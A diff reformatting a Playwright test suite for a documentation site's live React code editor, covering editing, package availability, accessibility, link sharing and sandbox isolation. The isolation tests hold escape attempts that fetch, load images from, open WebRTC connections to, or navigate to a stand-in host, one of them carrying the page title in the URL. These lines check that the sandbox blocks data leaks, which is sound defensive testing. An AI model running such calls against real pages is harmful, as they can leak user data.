@@ -16,11 +16,20 @@ async function editing(visit?: Visit) {
   await page.keyboard.press('Enter');
   const area = page.locator('#ButtonColors textarea:visible');
   await area.waitFor();
-  return { page, trouble, area, frame: page.frameLocator('#ButtonColors iframe.sandbox'), alert: page.locator('#ButtonColors .code-error') };
+  return {
+    page,
+    trouble,
+    area,
+    frame: page.frameLocator('#ButtonColors iframe.sandbox'),
+    alert: page.locator('#ButtonColors .code-error'),
+  };
 }
 
 const program = (body: string) => `import * as React from 'react';\nexport default function Demo() {\n${body}\n}\n`;
-const effect = (code: string) => program(`  const [said, setSaid] = React.useState('waiting');\n  React.useEffect(() => { (async () => { try { ${code} } catch (error) { setSaid('refused'); } })(); }, []);\n  return <p id="said">{said}</p>;`);
+const effect = (code: string) =>
+  program(
+    `  const [said, setSaid] = React.useState('waiting');\n  React.useEffect(() => { (async () => { try { ${code} } catch (error) { setSaid('refused'); } })(); }, []);\n  return <p id="said">{said}</p>;`,
+  );
 
 describe('editing', () => {
   test('the result follows typing; the last good one stays while there is an error at the code', async () => {
@@ -30,7 +39,11 @@ describe('editing', () => {
     await area.fill(code.replace('Approve', 'Agree'));
     await frame.getByRole('button', { name: 'Agree' }).waitFor();
     expect(await page.locator('#ButtonColors .demo').isVisible()).toBe(false);
-    expect(await frame.getByRole('button', { name: 'Agree' }).evaluate((element) => getComputedStyle(element).backgroundColor)).toBe('rgb(46, 125, 50)');
+    expect(
+      await frame
+        .getByRole('button', { name: 'Agree' })
+        .evaluate((element) => getComputedStyle(element).backgroundColor),
+    ).toBe('rgb(46, 125, 50)');
     await area.fill(code.replace('<Stack', '<Stack <'));
     await alert.waitFor();
     expect(await alert.getAttribute('data-line')).not.toBe('');
@@ -44,7 +57,12 @@ describe('editing', () => {
     await page.locator('#ButtonColors').getByRole('button', { name: 'Undo all edits' }).click();
     await page.locator('#ButtonColors .demo').waitFor();
     expect(await area.inputValue()).toBe(code);
-    expect(trouble.filter((line) => !line.includes('out of order') && !line.includes("directive 'webrtc'") && !line.includes('The above error'))).toEqual([]);
+    expect(
+      trouble.filter(
+        (line) =>
+          !line.includes('out of order') && !line.includes("directive 'webrtc'") && !line.includes('The above error'),
+      ),
+    ).toEqual([]);
   });
 
   test('other packages are not available, and it is said which are', async () => {
@@ -72,11 +90,13 @@ describe('editing', () => {
     expect(await area.evaluate((element) => element === document.activeElement)).toBe(true);
   });
 
-  test('the frame has the reader\'s mode and direction', async () => {
+  test("the frame has the reader's mode and direction", async () => {
     const { area, frame } = await editing(await reader({ mode: 'dark', direction: 'rtl' }));
     await area.fill((await area.inputValue()).replace('Approve', 'Agree'));
     await frame.getByRole('button', { name: 'Agree' }).waitFor();
-    expect(await frame.locator('html').evaluate((element) => [(element as HTMLElement).dir, element.dataset.mode])).toEqual(['rtl', 'dark']);
+    expect(
+      await frame.locator('html').evaluate((element) => [(element as HTMLElement).dir, element.dataset.mode]),
+    ).toEqual(['rtl', 'dark']);
   });
 });
 
@@ -87,15 +107,26 @@ describe('nothing gets out', () => {
     ['the page around it', 'setSaid(parent.document.title)'],
     ['the network', 'await fetch("https://elsewhere.example/"); setSaid("got out")'],
     ['the own server', `await fetch("${site}/llms.txt"); setSaid("got out")`],
-    ['a picture', 'await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "https://elsewhere.example/a.png"; }); setSaid("got out")'],
-    ['peer connections', 'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:elsewhere.example" }] }); c.createDataChannel("a"); await c.setLocalDescription(await c.createOffer()); setSaid("got out")'],
+    [
+      'a picture',
+      'await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "https://elsewhere.example/a.png"; }); setSaid("got out")',
+    ],
+    [
+      'peer connections',
+      'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:elsewhere.example" }] }); c.createDataChannel("a"); await c.setLocalDescription(await c.createOffer()); setSaid("got out")',
+    ],
   ] as const) {
     test(what, async () => {
       const { page, area, frame } = await editing();
       const asked: string[] = [];
-      await page.context().route(/elsewhere|llms/, (route) => (asked.push(route.request().url()), route.fulfill({ body: 'got out' })));
+      await page
+        .context()
+        .route(/elsewhere|llms/, (route) => (asked.push(route.request().url()), route.fulfill({ body: 'got out' })));
       await area.fill(effect(code));
-      await frame.locator('#said').getByText(/refused|got/).waitFor({ timeout: 10_000 });
+      await frame
+        .locator('#said')
+        .getByText(/refused|got/)
+        .waitFor({ timeout: 10_000 });
       const said = await frame.locator('#said').innerText({ timeout: 3000 });
       expect(said).not.toMatch(/^got/);
       expect(asked).toEqual([]);
@@ -105,8 +136,14 @@ describe('nothing gets out', () => {
   test('navigation: neither of the page around it nor of the frame to elsewhere', async () => {
     const { page, area } = await editing();
     const asked: string[] = [];
-    await page.context().route(/elsewhere/, (route) => (asked.push(route.request().url()), route.fulfill({ body: 'got out' })));
-    await area.fill(effect('try { top.location.href = "https://elsewhere.example/top"; } catch {} location.href = "https://elsewhere.example/frame?" + document.title; await new Promise((r) => setTimeout(r, 500)); setSaid("stayed")'));
+    await page
+      .context()
+      .route(/elsewhere/, (route) => (asked.push(route.request().url()), route.fulfill({ body: 'got out' })));
+    await area.fill(
+      effect(
+        'try { top.location.href = "https://elsewhere.example/top"; } catch {} location.href = "https://elsewhere.example/frame?" + document.title; await new Promise((r) => setTimeout(r, 500)); setSaid("stayed")',
+      ),
+    );
     await page.waitForTimeout(2000);
     expect(page.url()).toContain('/material-ui/react-button/');
     expect(asked).toEqual([]);
@@ -127,7 +164,13 @@ async function playground() {
   await page.goto(`${site}/playground/`);
   await page.locator('#Playground .code:visible pre').focus();
   await page.keyboard.press('Enter');
-  return { page, trouble, area: page.locator('#Playground textarea:visible'), frame: page.frameLocator('iframe.sandbox'), alert: page.locator('#Playground .code-error') };
+  return {
+    page,
+    trouble,
+    area: page.locator('#Playground textarea:visible'),
+    frame: page.frameLocator('iframe.sandbox'),
+    alert: page.locator('#Playground .code-error'),
+  };
 }
 
 describe('the playground', () => {
@@ -135,7 +178,9 @@ describe('the playground', () => {
     const { area, frame } = await playground();
     await area.fill("import Button from '@mui/joy/Button';\nexport default () => <Button>Joyful</Button>;\n");
     await frame.getByRole('button', { name: 'Joyful' }).waitFor();
-    await area.fill("import { DataGrid } from '@mui/x-data-grid';\nexport default () => <div style={{ height: 300, width: '100%' }}><DataGrid columns={[{ field: 'id' }]} rows={[{ id: 'first row' }]} /></div>;\n");
+    await area.fill(
+      "import { DataGrid } from '@mui/x-data-grid';\nexport default () => <div style={{ height: 300, width: '100%' }}><DataGrid columns={[{ field: 'id' }]} rows={[{ id: 'first row' }]} /></div>;\n",
+    );
     await frame.getByText('first row').waitFor();
     await area.fill(`import Alarm from '@mui/icons-material/AccessAlarm';
 import { AdapterDayjs } from '@mui/x-date-pickers/AdapterDayjs';
@@ -149,7 +194,17 @@ export default () => <LocalizationProvider dateAdapter={AdapterDayjs}><Alarm /><
 
   test('has every public module of every package, over one React', async () => {
     const { area, frame } = await playground();
-    const packages = ['material', 'lab', 'joy', 'base', 'system', 'x-data-grid', 'x-date-pickers', 'x-charts', 'x-tree-view'];
+    const packages = [
+      'material',
+      'lab',
+      'joy',
+      'base',
+      'system',
+      'x-data-grid',
+      'x-date-pickers',
+      'x-charts',
+      'x-tree-view',
+    ];
     const modules = packages.flatMap((name) => publicModules(`@mui/${name}`));
     expect(modules.length).toBeGreaterThan(400);
     await area.fill(`${modules.map((module, i) => `import * as M${i} from '${module}';`).join('\n')}
@@ -158,7 +213,9 @@ export default () => <p id="said">{Object.keys(all).filter((name) => Object.keys
 `);
     await frame.locator('#said').waitFor({ state: 'attached' });
     // These hold types alone.
-    expect(await frame.locator('#said').innerText()).toBe('@mui/material/transitions @mui/x-data-grid/utils @mui/x-date-pickers/models @mui/x-charts/models');
+    expect(await frame.locator('#said').innerText()).toBe(
+      '@mui/material/transitions @mui/x-data-grid/utils @mui/x-date-pickers/models @mui/x-charts/models',
+    );
   });
 
   test('says what is wrong with an import: the spelling, a package that is too large, another package', async () => {
@@ -166,7 +223,7 @@ export default () => <p id="said">{Object.keys(all).filter((name) => Object.keys
     for (const [module, words] of [
       ['@mui/material/Buton', 'has no module "Buton"'],
       ['@mui/icons-material/Delet', 'has no module "Delet"'],
-      ['@mui/icons-material', 'can\'t be imported whole'],
+      ['@mui/icons-material', "can't be imported whole"],
       ['left-pad', 'is not available here'],
     ]) {
       await area.fill(`import * as x from '${module}';\nexport default () => <p>{String(x)}</p>;\n`);
@@ -178,8 +235,11 @@ export default () => <p id="said">{Object.keys(all).filter((name) => Object.keys
 /** Folders of a package with a manifest of their own, except those that hold types alone or want what is not installed. */
 function publicModules(name: string) {
   const folder = new URL(`../../node_modules/${name}/`, import.meta.url);
-  const missing = /internal|themeAugmentation|^legacy$|^modern$|^esm$|^node$|^AdapterDateFns|^AdapterLuxon|^AdapterMoment/;
-  const below = readdirSync(folder).filter((file) => existsSync(new URL(`${file}/package.json`, folder)) && !missing.test(file));
+  const missing =
+    /internal|themeAugmentation|^legacy$|^modern$|^esm$|^node$|^AdapterDateFns|^AdapterLuxon|^AdapterMoment/;
+  const below = readdirSync(folder).filter(
+    (file) => existsSync(new URL(`${file}/package.json`, folder)) && !missing.test(file),
+  );
   return [name, ...below.map((file) => `${name}/${file}`)];
 }
 
@@ -189,16 +249,27 @@ test('axe finds nothing with the editor open', async () => {
   await frame.getByRole('button', { name: 'Agree' }).waitFor();
   await page.evaluate(readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8'));
   const violations = await page.evaluate(async () => {
-    const { axe } = globalThis as unknown as { axe: { run(context: unknown, options: unknown): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> } };
-    return (await axe.run('#ButtonColors', { resultTypes: ['violations'], iframes: false })).violations.flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html.slice(0, 200)}`));
+    const { axe } = globalThis as unknown as {
+      axe: {
+        run(context: unknown, options: unknown): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }>;
+      };
+    };
+    return (await axe.run('#ButtonColors', { resultTypes: ['violations'], iframes: false })).violations.flatMap(
+      ({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html.slice(0, 200)}`),
+    );
   });
   expect(violations).toEqual([]);
 });
 
 describe('sharing', () => {
   test('a link carries the code, also 50 kB of it; a damaged one says so', async () => {
-    const { page, area } = await editing(await reader({ context: { permissions: ['clipboard-read', 'clipboard-write'] } }));
-    const filler = Array.from({ length: 1200 }, (_, i) => `// ${(i * 2654435761) % 4294967296} some words to fill the line`).join('\n');
+    const { page, area } = await editing(
+      await reader({ context: { permissions: ['clipboard-read', 'clipboard-write'] } }),
+    );
+    const filler = Array.from(
+      { length: 1200 },
+      (_, i) => `// ${(i * 2654435761) % 4294967296} some words to fill the line`,
+    ).join('\n');
     await area.fill(`${(await area.inputValue()).replace('Approve', 'Shared')}\n${filler}\n`);
     expect((await area.inputValue()).length).toBeGreaterThan(50_000);
     await page.locator('#ButtonColors').getByRole('button', { name: 'Copy link to this code' }).click();
@@ -206,7 +277,10 @@ describe('sharing', () => {
     const link = await page.evaluate(() => navigator.clipboard.readText());
     const other = await reader();
     await other.page.goto(link);
-    await other.page.frameLocator('#ButtonColors iframe.sandbox').getByRole('button', { name: 'Shared' }).waitFor({ timeout: 15_000 });
+    await other.page
+      .frameLocator('#ButtonColors iframe.sandbox')
+      .getByRole('button', { name: 'Shared' })
+      .waitFor({ timeout: 15_000 });
     const damaged = await reader();
     await damaged.page.goto(link.slice(0, -40));
     await damaged.page.getByRole('alert').getByText('damaged').waitFor();
